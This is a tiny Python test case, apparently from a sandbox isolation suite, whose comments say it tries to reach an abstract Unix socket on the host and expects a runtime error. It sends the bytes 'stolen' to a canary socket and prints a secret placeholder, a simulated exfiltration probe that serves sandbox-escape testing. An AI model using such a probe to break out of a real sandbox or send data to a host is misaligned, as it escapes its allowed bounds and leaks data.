# tries: to talk to an abstract socket of the host
# kind: stdio
# seen: runtime_error
import socket
link = socket.socket(socket.AF_UNIX)
link.connect("\0or1-canary-@PORT@")
link.sendall(b"stolen")
print("@SECRET@")
